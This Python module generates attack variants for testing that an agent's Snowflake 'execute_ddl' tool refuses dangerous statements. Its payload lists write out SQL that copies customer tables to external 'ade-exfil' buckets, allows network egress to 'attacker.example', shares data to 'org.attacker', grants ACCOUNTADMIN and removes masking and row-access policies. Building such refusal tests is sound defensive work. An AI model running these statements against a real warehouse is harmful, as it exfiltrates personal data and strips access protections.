"""Generated execute_ddl attacks (issue 34): body quoting forms x object kinds x payloads x spellings.

Systematic rather than random, so every run sends the same variants and a failure names one. Each variant is
(class, statement, codes): the structured refusals that are right for it. Object names start with ATK_ so the
catalog can be searched for anything an attack left behind.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator

DATABASE = "ADE_SNOW"
Variant = tuple[str, str, frozenset[str]]

BODY = frozenset({"DDL_BODY_REFUSED"})
KIND = frozenset({"DDL_KIND_REFUSED"})
EXCLUDED = frozenset({"EXCLUDED_OBJECT"})
SESSION = frozenset({"SESSION_STATE_REFUSED"})
# A plain scripting block holds ';' at the top level: one statement per call refuses it before its body.
BATCH = frozenset({"MULTI_STATEMENT"})

# Payloads: what a body would run, by class. `{n}` numbers the variant (unique object names and paths).
PAYLOADS: dict[str, list[str]] = {
    "egress_url": [
        "COPY INTO 's3://ade-exfil/{n}/' FROM {db}.APP.CUSTOMERS",
        "COPY INTO 'gcs://ade-exfil/{n}/' FROM (SELECT email FROM customers) FILE_FORMAT = (TYPE = CSV)",
        "COPY INTO 'azure://acct.blob.core.windows.net/c/{n}' FROM customers HEADER = TRUE",
        "copy into 'S3://ade-exfil/{n}' from orders overwrite = true",
    ],
    "egress_stage": [
        "COPY INTO @atk_stage_{n}/dump FROM customers",
        "COPY INTO @~/atk_{n} FROM (SELECT * FROM orders)",
        "COPY INTO @%customers/atk_{n} FROM customers",
        "copy into @{db}.APP.ATK_STAGE_{n} from customers single = true",
    ],
    "execute_immediate": [
        "EXECUTE IMMEDIATE 'SELECT * FROM ' || 'PROD' || '_HR.SALARIES'",
        "EXECUTE IMMEDIATE 'COPY INTO ''s3://x/{n}'' FROM ' || 'customers'",
        "EXECUTE IMMEDIATE CONCAT('DROP TABLE ', 'orders')",
        "execute immediate $$ SELECT 1 $$",
    ],
    "call": [
        "CALL atk_proc_{n}()",
        "CALL {db}.APP.ATK_PROC_{n}('x', 1)",
        "call system$wait(1)",
    ],
    "execute_task": [
        "EXECUTE TASK atk_task_{n}",
        "execute task {db}.APP.ATK_TASK_{n}",
        "ALTER TASK atk_task_{n} RESUME",
    ],
    "excluded_read": [
        "INSERT INTO atk_sink_{n} SELECT * FROM {db}.PROD_HR.SALARIES",
        "SELECT COUNT(*) FROM prod_hr.salaries",
        "MERGE INTO orders o USING (SELECT * FROM {db}.PROD_HR.SALARIES) s ON o.id = s.id "
        "WHEN MATCHED THEN UPDATE SET note = 'x'",
        "INSERT INTO atk_sink_{n} SELECT * FROM customers_backup",
    ],
}
# What each payload class is refused with (a body reading an excluded object is an excluded reference).
PAYLOAD_CODES = {
    "egress_url": BODY,
    "egress_stage": BODY,
    "execute_immediate": BODY,
    "call": BODY,
    "execute_task": BODY,
    "excluded_read": EXCLUDED,
}


def _quote(form: str, body: str) -> str:
    if form == "dollar":
        return f"$${body}$$"
    if form == "single":
        return "'" + body.replace("'", "''") + "'"
    return "'" + body.replace("\\", "\\\\").replace("'", "\\'") + "'"  # backslash escapes


QUOTES = ("dollar", "single", "backslash")


def _blocks(payload: str) -> list[str]:
    """Scripting blocks that run the payload somewhere inside."""
    return [
        f"BEGIN {payload}; RETURN 'ok'; END",
        f"DECLARE n NUMBER DEFAULT 0; BEGIN n := n + 1; {payload}; RETURN 'ok'; END",
        f"BEGIN FOR i IN 1 TO 3 DO {payload}; END FOR; RETURN 'ok'; END",
        f"BEGIN IF (1 = 1) THEN {payload}; ELSE RETURN 'no'; END IF; RETURN 'ok'; END",
        f"DECLARE c CURSOR FOR SELECT 1 AS x; BEGIN FOR r IN c DO {payload}; END FOR; RETURN 'ok'; END",
        f"BEGIN LET k := 0; WHILE (k < 2) DO k := k + 1; {payload}; END WHILE; RETURN 'ok'; EXCEPTION WHEN OTHER "
        "THEN RETURN 'e'; END",
    ]


# Spellings of the same statement: case, whitespace, comments between the kind and the body.
def _spell(style: int, text: str) -> str:
    if style == 1:
        return text.lower()
    if style == 2:
        return text.replace(" AS ", "\n\tAS /* body */\n").replace("CREATE ", "CREATE -- agent\n")
    return text


def _wrappers(n: int) -> list[tuple[str, Callable[[str, str], str], bool]]:
    """(name, wrap(payload, quote form), plain): how each kind carries a body. `plain` wrappers put the
    payload after AS without quotes (one statement, no scripting block)."""
    w = "WAREHOUSE = COMPUTE_WH SCHEDULE = '5 MINUTE'"
    return [
        ("task", lambda p, q: f"CREATE OR REPLACE TASK atk_task_{n} {w} AS {p}", True),
        ("task_when", lambda p, q: f"CREATE TASK atk_task_{n} {w} WHEN 1 = 1 AS {p}", True),
        ("alter_task", lambda p, q: f"ALTER TASK atk_task_{n} MODIFY AS {p}", True),
        (
            "alert_action",
            lambda p, q: f"CREATE ALERT atk_alert_{n} {w} IF (EXISTS (SELECT 1)) THEN {p}",
            True,
        ),
        ("alter_alert", lambda p, q: f"ALTER ALERT atk_alert_{n} MODIFY ACTION {p}", True),
        (
            "procedure",
            lambda p, q: (
                f"CREATE OR REPLACE PROCEDURE atk_proc_{n}() RETURNS VARCHAR LANGUAGE SQL "
                f"EXECUTE AS CALLER AS {_quote(q, p)}"
            ),
            False,
        ),
        (
            "procedure_nolang",
            lambda p, q: (
                f"CREATE PROCEDURE atk_proc_{n}(x NUMBER) RETURNS TABLE (a NUMBER) AS {_quote(q, p)}"
            ),
            False,
        ),
        (
            "function",
            lambda p, q: (
                f"CREATE OR REPLACE SECURE FUNCTION atk_fn_{n}() RETURNS TABLE (a VARCHAR) "
                f"LANGUAGE SQL AS {_quote(q, p)}"
            ),
            False,
        ),
    ]


def body_variants() -> Iterator[Variant]:
    """Payload classes through every kind, quoting form, scripting block and spelling (sampled by stride so
    each class gets every kind and form without sending the whole product)."""
    n = 0
    for cls, payloads in PAYLOADS.items():
        codes = PAYLOAD_CODES[cls]
        for i, (payload, style) in enumerate(itertools.product(payloads, range(3))):
            for name, wrap, plain in _wrappers(i):
                text = payload.format(n=n, db=DATABASE)
                if plain:
                    yield cls, _spell(style, wrap(text, "")), codes
                    if name == "task":  # a plain scripting block: ';' at the top level
                        yield cls, _spell(style, wrap(f"BEGIN {text}; END", "")), codes | BATCH
                else:
                    quote = QUOTES[(i + n) % len(QUOTES)]
                    block = _blocks(text)[(i + n) % 6] if name != "function" else text
                    yield cls, _spell(style, wrap(block, quote)), codes
                n += 1


def nested_variants() -> Iterator[Variant]:
    """A body that creates a task, procedure or function whose own body runs the payload (two quoting levels)."""
    n = 1000
    for cls in ("egress_url", "execute_immediate", "call", "excluded_read", "egress_stage"):
        for payload in PAYLOADS[cls]:
            text = payload.format(n=n, db=DATABASE)
            inners = [
                f"CREATE TASK atk_inner_{n} AS {text}",
                f"CREATE PROCEDURE atk_inner_{n}() RETURNS VARCHAR AS {_quote('single', f'BEGIN {text}; END')}",
                f"CREATE FUNCTION atk_inner_{n}() RETURNS TABLE (a NUMBER) AS {_quote('single', text)}",
            ]
            for j, inner in enumerate(inners):
                outer_quote = ("dollar", "single", "backslash")[j]
                block = f"BEGIN {inner}; RETURN 'ok'; END"
                yield (
                    "nested",
                    f"CREATE PROCEDURE atk_outer_{n}() RETURNS VARCHAR AS {_quote(outer_quote, block)}",
                    PAYLOAD_CODES[cls],
                )
                yield ("nested", f"CREATE TASK atk_outer_{n} AS {inner}", PAYLOAD_CODES[cls])
                n += 1


def language_variants() -> Iterator[Variant]:
    n = 2000
    bodies = {
        "JAVASCRIPT": "return 1;",
        "PYTHON": "def run(session):\n    return session.sql('select 1').collect()",
        "JAVA": 'class A { public static String run() { return "x"; } }',
        "SCALA": 'object A { def run(): String = "x" }',
    }
    for (lang, body), kind, quote, style in itertools.product(
        bodies.items(), ("PROCEDURE", "FUNCTION"), QUOTES, range(3)
    ):
        handler = " HANDLER = 'run' RUNTIME_VERSION = '3.11' PACKAGES = ('snowflake-snowpark-python')"
        text = (
            f"CREATE OR REPLACE {kind} atk_lang_{n}() RETURNS VARCHAR LANGUAGE {lang}"
            f"{handler if lang != 'JAVASCRIPT' else ''} AS {_quote(quote, body)}"
        )
        yield "non_sql_language", _spell(style, text), BODY
        n += 1


# Kinds and clauses outside the allow-list.
KIND_STATEMENTS: dict[str, list[str]] = {
    "stage_url": [
        "CREATE STAGE atk_stage_{n} URL = 's3://ade-exfil/{n}/'",
        "CREATE OR REPLACE STAGE atk_stage_{n} URL = 'gcs://ade-exfil/' STORAGE_INTEGRATION = atk_int",
        "CREATE STAGE atk_stage_{n} URL='azure://a.blob.core.windows.net/c' CREDENTIALS=(AZURE_SAS_TOKEN='x')",
        "CREATE STAGE atk_stage_{n} STORAGE_INTEGRATION = atk_int",
        "ALTER STAGE atk_stage_{n} SET URL = 's3://ade-exfil/{n}/'",
        "ALTER STAGE atk_stage_{n} SET CREDENTIALS = (AWS_KEY_ID = 'a' AWS_SECRET_KEY = 'b')",
        "CREATE EXTERNAL TABLE atk_ext_{n} (a VARCHAR AS (value:a::VARCHAR)) LOCATION = @atk_stage FILE_FORMAT = "
        "(TYPE = CSV)",
        "CREATE PIPE atk_pipe_{n} AS COPY INTO customers FROM @atk_stage",
    ],
    "integration": [
        "CREATE STORAGE INTEGRATION atk_int_{n} TYPE = EXTERNAL_STAGE STORAGE_PROVIDER = 'S3' ENABLED = TRUE "
        "STORAGE_ALLOWED_LOCATIONS = ('s3://ade-exfil/')",
        "CREATE OR REPLACE API INTEGRATION atk_int_{n} API_PROVIDER = aws_api_gateway ENABLED = TRUE "
        "API_ALLOWED_PREFIXES = ('https://x')",
        "CREATE NOTIFICATION INTEGRATION atk_int_{n} TYPE = EMAIL ENABLED = TRUE",
        "CREATE SECURITY INTEGRATION atk_int_{n} TYPE = OAUTH OAUTH_CLIENT = CUSTOM",
        "CREATE EXTERNAL ACCESS INTEGRATION atk_int_{n} ALLOWED_NETWORK_RULES = (r) ENABLED = TRUE",
        "ALTER STORAGE INTEGRATION atk_int_{n} SET STORAGE_ALLOWED_LOCATIONS = ('s3://ade-exfil/')",
        "DROP INTEGRATION atk_int_{n}",
        "CREATE EXTERNAL FUNCTION atk_ef_{n}(x VARCHAR) RETURNS VARIANT API_INTEGRATION = atk_int AS 'https://x'",
        "CREATE TASK atk_task_{n} ERROR_INTEGRATION = atk_int AS INSERT INTO orders (id) VALUES (1)",
        "CREATE PROCEDURE atk_p_{n}() RETURNS VARCHAR LANGUAGE SQL EXTERNAL_ACCESS_INTEGRATIONS = (atk_int) AS "
        "$$ BEGIN RETURN 'x'; END $$",
    ],
    "user_role_grant": [
        "CREATE USER atk_user_{n} PASSWORD = 'x' DEFAULT_ROLE = ACCOUNTADMIN",
        "ALTER USER atk_user_{n} RESET PASSWORD",
        "DROP USER atk_user_{n}",
        "CREATE ROLE atk_role_{n}",
        "CREATE DATABASE ROLE {db}.atk_role_{n}",
        "DROP ROLE atk_role_{n}",
        "GRANT ROLE ACCOUNTADMIN TO USER atk_user_{n}",
        "GRANT SELECT ON ALL TABLES IN SCHEMA {db}.PROD_HR TO ROLE public",
        "REVOKE SELECT ON TABLE customers FROM ROLE analyst",
        "GRANT OWNERSHIP ON TABLE customers TO ROLE atk_role_{n}",
    ],
    "share": [
        "CREATE SHARE atk_share_{n}",
        "ALTER SHARE atk_share_{n} ADD ACCOUNTS = org.attacker",
        "GRANT SELECT ON TABLE customers TO SHARE atk_share_{n}",
        "DROP SHARE atk_share_{n}",
        "ALTER DATABASE {db} ENABLE REPLICATION TO ACCOUNTS org.attacker",
        "CREATE REPLICATION GROUP atk_rg_{n} OBJECT_TYPES = DATABASES ALLOWED_DATABASES = {db}",
    ],
    "network_policy": [
        "CREATE NETWORK POLICY atk_np_{n} ALLOWED_IP_LIST = ('0.0.0.0/0')",
        "ALTER NETWORK POLICY atk_np_{n} SET ALLOWED_IP_LIST = ('0.0.0.0/0')",
        "DROP NETWORK POLICY atk_np_{n}",
        "CREATE NETWORK RULE atk_nr_{n} TYPE = HOST_PORT VALUE_LIST = ('attacker.example:443') MODE = EGRESS",
        "CREATE SECRET atk_secret_{n} TYPE = PASSWORD USERNAME = 'u' PASSWORD = 'p'",
        "ALTER ACCOUNT SET NETWORK_POLICY = atk_np_{n}",
    ],
    "unset_policy": [
        "ALTER TABLE customers MODIFY COLUMN email UNSET MASKING POLICY",
        "ALTER TABLE customers ALTER COLUMN email UNSET MASKING POLICY",
        "ALTER TABLE customers DROP ROW ACCESS POLICY atk_rap_{n}",
        "ALTER TABLE customers DROP ALL ROW ACCESS POLICIES",
        "ALTER VIEW v_customer_contact DROP ROW ACCESS POLICY atk_rap_{n}",
        "ALTER TABLE customers MODIFY COLUMN email SET MASKING POLICY atk_open_{n} FORCE",
        "ALTER TABLE customers ADD ROW ACCESS POLICY atk_rap_{n} ON (id)",
        "DROP MASKING POLICY atk_mp_{n}",
        "DROP ROW ACCESS POLICY atk_rap_{n}",
        "ALTER MASKING POLICY atk_mp_{n} SET BODY -> val",
        "ALTER TABLE customers MODIFY COLUMN email UNSET TAG pii",
        "DROP TAG atk_tag_{n}",
        "ALTER TAG atk_tag_{n} UNSET MASKING POLICY atk_mp",
    ],
    "task_resume": [
        "ALTER TASK atk_task_{n} RESUME",
        "ALTER TASK IF EXISTS {db}.APP.ATK_TASK_{n} RESUME",
        "ALTER ALERT atk_alert_{n} RESUME",
        "EXECUTE TASK atk_task_{n}",
        "EXECUTE ALERT atk_alert_{n}",
    ],
}


def _kind_spell(style: int, text: str) -> str:
    if style == 1:
        return text.lower()
    if style == 2:
        head, _, rest = text.partition(" ")
        return f"/* agent */ {head}\n  {rest.replace(' ', '  ', 2)} -- trailing"
    return text


def kind_variants() -> Iterator[Variant]:
    n = 3000
    for cls, statements in KIND_STATEMENTS.items():
        for statement, style in itertools.product(statements, range(3)):
            # ALTER ACCOUNT ... SET is also the state every later session starts with (SESSION_STATE_REFUSED).
            session = SESSION if statement.startswith("ALTER ACCOUNT") else frozenset()
            yield cls, _kind_spell(style, statement.format(n=n, db=DATABASE)), KIND | EXCLUDED | session
            n += 1


def all_variants() -> list[Variant]:
    return [*body_variants(), *nested_variants(), *language_variants(), *kind_variants()]
